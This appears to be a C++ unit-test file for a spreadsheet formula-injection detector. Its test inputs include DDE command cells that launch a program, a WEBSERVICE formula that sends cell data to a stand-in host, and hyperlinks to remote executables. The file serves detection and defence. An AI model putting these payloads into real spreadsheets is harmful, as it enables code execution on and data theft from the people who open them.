#include "formula_detector.h"

#include <gtest/gtest.h>

#include <chrono>

namespace tollgate {
namespace {

class Collect final : public FindingSink {
 public:
  void Add(Finding finding) override { found.push_back(finding.rule + " " + finding.detail); }
  std::vector<std::string> found;
};

std::vector<std::string> Scan(std::string_view name, std::string mime, std::string_view sheet) {
  auto detector = MakeDetectorFactory_formula().create(DetectorConfig{});
  EXPECT_TRUE(detector.ok());
  ScanObject object;
  object.path = ObjectPath(std::string(name));
  object.type.mime = std::move(mime);
  object.bytes = std::span(reinterpret_cast<const uint8_t*>(sheet.data()), sheet.size());
  Collect out;
  EXPECT_TRUE((*detector)->Scan(object, ScanContext(std::chrono::steady_clock::time_point::max(), nullptr), out).ok());
  return out.found;
}

using Found = std::vector<std::string>;

TEST(FormulaDetector, DdeAndWebFunctionsInCsv) {
  EXPECT_EQ(Scan("contacts.csv", "text/csv", "\"Name\",\"Phone\"\r\n\"Ann\",\"=cmd|' /C calc'!A0\"\r\n"),
            Found{"Tollgate.Formula.Injection row 2, column 2: =cmd|' /C calc'!A0 (DDE =cmd|)"});
  EXPECT_EQ(Scan("data.csv", "text/csv",
                 "a,b\n1,\"=WEBSERVICE(\"\"http://example.invalid/?d=\"\"&A2)\"\n2,@SUM(1+1)*cmd|' /C calc'!A0\n"),
            Found{"Tollgate.Formula.Injection row 2, column 2: =WEBSERVICE(\"http://example.invalid/?d=\"&A2) "
                  "(webservice); 2 such cells"});
}

TEST(FormulaDetector, TsvAndSemicolonsAndLinksToPrograms) {
  EXPECT_EQ(Scan("list.tsv", "text/plain", "x\t=HYPERLINK(\"http://example.invalid/invoice.exe\",\"Open\")\n"),
            Found{"Tollgate.Formula.Injection row 1, column 2: =HYPERLINK(\"http://example.invalid/invoice.exe\","
                  "\"Open\") (hyperlink to .exe)"});
  EXPECT_EQ(Scan("eu.csv", "text/plain", "Name;Wert\nA; +IMPORTXML(\"http://example.invalid/x\";\"//a\")\n"),
            Found{"Tollgate.Formula.Injection row 2, column 2:  +IMPORTXML(\"http://example.invalid/x\" (importxml)"});
}

TEST(FormulaDetector, SylkExpressions) {
  EXPECT_EQ(Scan("sheet.slk", "application/x-sylk", "ID;P\r\nC;X1;Y1;K\"Name\"\r\nC;X1;Y2;K0;ECMD|' /C calc'!A0\r\nE\r\n"),
            Found{"Tollgate.Formula.Injection row 2, column 1: =CMD|' /C calc'!A0 (DDE =CMD|)"});
  EXPECT_EQ(Scan("sheet.slk", "application/x-sylk", "ID;P\nC;Y3;X2;K5;ESUM(R1C1:R2C1)\nE\n"), Found{});
}

TEST(FormulaDetector, OrdinaryFormulasAndNumbersAreData) {
  EXPECT_EQ(Scan("budget.csv", "text/csv",
                 "Quarter,Revenue,Costs,Margin,Note\nQ1,120000,80000,=B2-C2,mail a@example.com\n"
                 "Q2,-1200,500,=SUM(B2:B5),\"=RECALL(1)\"\n"),
            Found{});
  EXPECT_EQ(Scan("contacts.tsv", "text/plain", "Ann\t+44 20 7946 0000\t-15.5\n"), Found{});
  EXPECT_EQ(Scan("links.csv", "text/csv", "=HYPERLINK(\"https://example.com/terms\")\n"), Found{});
}

TEST(FormulaDetector, OnlySheetsAreRead) {
  EXPECT_EQ(Scan("notes.txt", "text/plain", "=cmd|' /C calc'!A0\n"), Found{});
  EXPECT_EQ(Scan("data.csv", "application/octet-stream", "=cmd|' /C calc'!A0\n"), Found{});
}

TEST(FormulaDetector, UnclosedQuotesEndWithTheText) {
  EXPECT_EQ(Scan("broken.csv", "text/csv", "a,\"=cmd|' /C calc'!A0"),
            Found{"Tollgate.Formula.Injection row 1, column 2: =cmd|' /C calc'!A0 (DDE =cmd|)"});
  EXPECT_EQ(Scan("empty.csv", "text/csv", ""), Found{});
}

}  // namespace
}  // namespace tollgate
